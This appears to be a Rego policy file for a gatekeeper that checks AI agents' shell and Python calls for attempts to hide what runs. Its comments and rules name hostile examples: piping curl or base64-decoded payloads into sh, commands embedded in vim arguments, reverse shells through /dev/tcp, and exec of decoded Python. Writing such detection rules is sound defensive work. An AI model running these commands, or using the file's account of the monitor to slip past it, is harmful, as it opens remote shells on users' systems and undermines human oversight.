# What hides what would run. Seven rules:
#
# - evasion.unanalysable (deny): the call could not be analysed at all (too large, nested too
#   deeply, invalid encoding, a parse error) or carries no facts. Nothing is known about what
#   runs, so bad input is never allowed. A shell parse error is in this list because bash runs
#   its input command by command: what comes before a broken line runs, in a terminal so does
#   what comes after it, and the parser's recovery is no proof of what bash makes of the rest.
# - evasion.opaque (ask): something runs that the text alone does not fix (`curl | sh`,
#   `eval "$X"`, a program named by a variable or a glob, a file written then executed). Sourcing a
#   virtualenv's activate script (data.gatekeeper.evasion.trusted_sources) is routine and exempt.
# - evasion.decoded_payload (ask): commands decoded from data and piped to a shell
#   (`echo <b64> | base64 -d | sh`, `printf '\x6b\x69\x6c\x6c 1' | sh`), and python exec() of
#   decoded code. When the decoded command is itself dangerous its family's rule denies as well.
#   Text piped as written (`echo 'ls -la' | sh`, a heredoc through cat;
#   data.gatekeeper.evasion.plain_payload_steps) hides nothing: only the families judge it.
# - evasion.embedded_command (ask): a family's finding on a candidate, a command line inside an
#   argument of a program that may run it (`vim -c ':!pkill x'`). The violation keeps the
#   finding's family: obfuscation does not change what the command would do.
# - evasion.reverse_shell (deny): a shell wired to a network socket (`bash -i >& /dev/tcp/h/p`).
# - evasion.syntax_error (warn) and evasion.newer_syntax (ask): python code that does not compile
#   for the analyser. CPython compiles the whole source before running any of it, so such code
#   runs nothing, and agents write plenty of it (a recorded run tries ten broken one-liners): it is
#   only recorded. But the interpreter that runs it may be newer than the analyser's and accept
#   it: errors that a later grammar lifts (3.12 f-strings, `f"{os.kill(1, 9)}{"x"}"`;
#   data.gatekeeper.evasion.newer_syntax_errors) are asked.
package gatekeeper.evasion

import data.gatekeeper.lib

# --- unanalysable input ---------------------------------------------------------------------

violations contains lib.violation("evasion.unanalysable", message) if {
	some o in opaque_facts
	unanalysable(o)
	message := concat("", ["the call cannot be analysed (", o.reason, ": ", o.detail, ")", lib.excerpt(o.text)])
}

violations contains lib.violation("evasion.unanalysable", "the input carries no analysis facts") if {
	not has_facts
}

has_facts if is_object(input.facts)

# A list of facts that is not a list would otherwise read as empty.
violations contains lib.violation("evasion.unanalysable", message) if {
	some key in ["commands", "api_calls", "opaque", "syntax_errors"]
	x := lib.facts[key]
	not is_array(x)
	message := concat("", ["the analysis facts are malformed: ", key, " is not a list"])
}

# --- opaque ---------------------------------------------------------------------------------

violations contains lib.violation("evasion.opaque", message) if {
	some o in opaque_facts
	not unanalysable(o)
	not trusted_source(o)
	message := concat("", ["what runs cannot be known (", o.reason, ": ", o.detail, ")", lib.excerpt(o.text)])
}

# Opaque facts as well-typed objects; an entry without a string reason is unanalysable.
opaque_facts contains {
	"reason": lib.string_field(o, "reason", "unknown"),
	"detail": lib.string_field(o, "detail", "no detail"),
	"text": lib.string_field(o, "text", ""),
} if {
	some o in lib.array_field(lib.facts, "opaque")
	is_object(o)
}

opaque_facts contains {"reason": "malformed", "detail": "an opaque fact that is not an object", "text": ""} if {
	some o in lib.array_field(lib.facts, "opaque")
	not is_object(o)
}

unanalysable(o) if o.reason in data.gatekeeper.evasion.unanalysable_reasons

unanalysable(o) if o.reason in {"unknown", "malformed"}

# `. .venv/bin/activate`: the opaque fact is the source command itself, and its file is trusted.
trusted_source(o) if {
	o.reason == "dynamic_eval"
	some c in lib.effective_commands
	c.name in data.gatekeeper.evasion.source_programs
	c.text == o.text
	count(c.positionals) > 0
	path := lib.abs(c, c.positionals[0])
	some pattern in lib.expand_all(data.gatekeeper.evasion.trusted_sources)
	glob.match(pattern, ["/"], path)
}

violations contains lib.violation("evasion.syntax_error", message) if {
	some e in lib.array_field(lib.facts, "syntax_errors")
	not newer_syntax(e)
	message := concat("", ["python code does not compile, so it runs nothing: ", error_text(e)])
}

violations contains lib.violation("evasion.newer_syntax", message) if {
	some e in lib.array_field(lib.facts, "syntax_errors")
	newer_syntax(e)
	message := concat("", ["python code that does not compile here may run under a newer interpreter: ", error_text(e)])
}

newer_syntax(e) if {
	is_string(e)
	some fragment in data.gatekeeper.evasion.newer_syntax_errors
	contains(e, fragment)
}

error_text(e) := lib.short(e) if {
	is_string(e)
} else := "(no detail)"

# --- decoded payloads -----------------------------------------------------------------------

violations contains lib.violation("evasion.decoded_payload", message) if {
	some c in lib.effective_commands
	steps := lib.via_names(c, "payload")
	some step in steps
	not step in data.gatekeeper.evasion.plain_payload_steps
	decoders := concat(" | ", steps)
	message := concat("", ["a shell runs a command decoded by ", decoders, ": ", lib.short(c.text)])
}

# exec(base64.b64decode('...')): python code that exists only once decoded.
violations contains lib.violation("evasion.decoded_payload", message) if {
	some a in python_exec_calls
	some d in python_decode_calls
	contains(a.text, d.text)
	message := concat("", [a.function, " runs python code decoded by ", d.function, ": ", lib.short(a.text)])
}

# Each kind found once, not once per pair of calls (rego-cpp tests a body's every combination).
python_exec_calls contains a if {
	some a in lib.api_calls
	a.function in data.gatekeeper.evasion.python_exec_functions
}

python_decode_calls contains d if {
	some d in lib.api_calls
	d.function in data.gatekeeper.evasion.python_decode_functions
	d.text != ""
}

# --- commands inside arguments --------------------------------------------------------------

# Every family's findings, candidates included. A family not loaded contributes nothing.
family_hits := ((weights_hits | servers_hits) | processes_hits) | replication_hits

weights_hits := x if {
	x := data.gatekeeper.weights.hits
} else := set()

servers_hits := x if {
	x := data.gatekeeper.servers.hits
} else := set()

processes_hits := x if {
	x := data.gatekeeper.processes.hits
} else := set()

replication_hits := x if {
	x := data.gatekeeper.replication.hits
} else := set()

violations contains object.union(lib.violation("evasion.embedded_command", message), {"family": h.violation.family}) if {
	some h in family_hits
	h.candidate
	message := concat("", [h.host, " may run a command line that ", h.violation.rule, " flags: ", h.violation.message])
}

# --- reverse shells -------------------------------------------------------------------------

violations contains lib.violation("evasion.reverse_shell", message) if {
	some c in lib.effective_commands
	c.name in data.gatekeeper.evasion.shell_programs
	some target in socket_targets(c)
	message := concat("", [c.name, " is wired to the network socket ", target, ": a remote shell"])
}

# `exec 3<>/dev/tcp/h/p; bash <&3 >&3`: the socket is opened for the whole call.
violations contains lib.violation("evasion.reverse_shell", message) if {
	some e in lib.effective_commands
	e.name == "exec"
	count(e.args) == 0
	some target in socket_targets(e)
	some c in lib.effective_commands
	c.name in data.gatekeeper.evasion.shell_programs
	message := concat("", ["exec opens the network socket ", target, " and ", c.name, " runs in the same call: a remote shell"])
}

socket_targets(c) := {t |
	some r in c.redirects
	t := lib.redirect_path(c, r)
	some pattern in data.gatekeeper.evasion.socket_paths
	glob.match(pattern, ["/"], t)
}
